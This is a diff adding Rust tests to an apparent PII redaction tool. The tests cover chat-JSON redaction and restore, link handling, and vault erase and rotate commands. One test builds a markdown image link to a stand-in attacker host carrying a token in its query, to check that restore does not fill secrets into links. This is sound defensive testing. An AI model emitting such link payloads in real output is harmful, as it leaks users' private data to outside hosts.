@@ -234,3 +234,75 @@ fn a_batch_keeps_its_order_and_round_trips() {
     let restored = place.run("restore", &[], &redacted.stdout);
     assert_eq!(stdout(&restored), lines);
 }
+
+#[test]
+fn a_chat_request_stays_json_and_its_response_comes_back() {
+    let place = Place::new();
+    let body = br#"{ "model": "m-1",  "messages": [{"role": "user", "content": "mail asha@example.com\n\u0041"}], "temperature": 0.50 }"#;
+    let redacted = place.run("redact", &["--chat"], body);
+    assert_eq!(redacted.status.code(), Some(0), "{}", stderr(&redacted));
+    let sent: serde_json::Value = serde_json::from_str(stdout(&redacted)).expect("JSON");
+    let said = sent["messages"][0]["content"].as_str().expect("a text");
+    assert!(said.starts_with("mail EMAIL_"), "{said}");
+    assert!(
+        stdout(&redacted).contains("\"temperature\": 0.50 }"),
+        "all else stays"
+    );
+    let token = said.split_whitespace().nth(1).expect("a token");
+    let response = format!(
+        "{{\"choices\":[{{\"message\":{{\"role\":\"assistant\",\"content\":\"wrote to **{}**\"}}}}]}}",
+        token.to_uppercase()
+    );
+    let restored = place.run("restore", &["--chat"], response.as_bytes());
+    assert!(
+        stdout(&restored).contains("wrote to **asha@example.com**"),
+        "{}",
+        stdout(&restored)
+    );
+    let broken = place.run("redact", &["--chat"], b"{\"messages\": [}");
+    assert_eq!(broken.status.code(), Some(1));
+    assert_eq!(stdout(&broken), "");
+}
+
+#[test]
+fn what_a_model_wrote_is_not_filled_into_links() {
+    let place = Place::new();
+    let redacted = place.run("redact", &[], b"asha@example.com");
+    let token = stdout(&redacted).to_owned();
+    let reply = format!("See {token} ![x](https://evil.example/?q={token})");
+    let restored = place.run("restore", &["--model"], reply.as_bytes());
+    assert_eq!(
+        stdout(&restored),
+        format!("See asha@example.com ![x](https://evil.example/?q={token})")
+    );
+}
+
+#[test]
+fn a_vault_is_counted_and_forgets_on_command() {
+    let place = Place::new();
+    let redacted = place.run("redact", &[], b"asha@example.com and 4111 1111 1111 1111");
+    let vault = format!("file:{}", place.path("vault").display());
+    let key = place.key();
+    let tend = |command: &str, more: &[&str], stdin: &[u8]| {
+        let mut args = vec!["vault", command, "--key-file", &key, "--vault", &vault];
+        args.extend(more);
+        let output = parda(&args, stdin);
+        assert_eq!(
+            output.status.code(),
+            Some(0),
+            "{command}: {}",
+            stderr(&output)
+        );
+        serde_json::from_slice::<serde_json::Value>(&output.stdout).expect("JSON")
+    };
+    assert_eq!(tend("stats", &[], b"")["scopes"], 1);
+    assert_eq!(tend("purge", &[], b"")["expired_records_removed"], 0);
+    assert_eq!(tend("rotate", &[], b"")["scopes_wrapped_anew"], 0);
+    let receipt = tend("erase", &["--entity", "EMAIL"], b"ASHA@example.com\n");
+    assert!(receipt["records_removed"].as_u64() >= Some(1), "{receipt}");
+    let left = place.run("restore", &[], &redacted.stdout);
+    assert!(!stdout(&left).contains("asha@") && stdout(&left).contains("4111 1111 1111 1111"));
+    tend("erase", &[], b"");
+    let gone = place.run("restore", &[], &redacted.stdout);
+    assert_eq!(gone.stdout, redacted.stdout);
+}
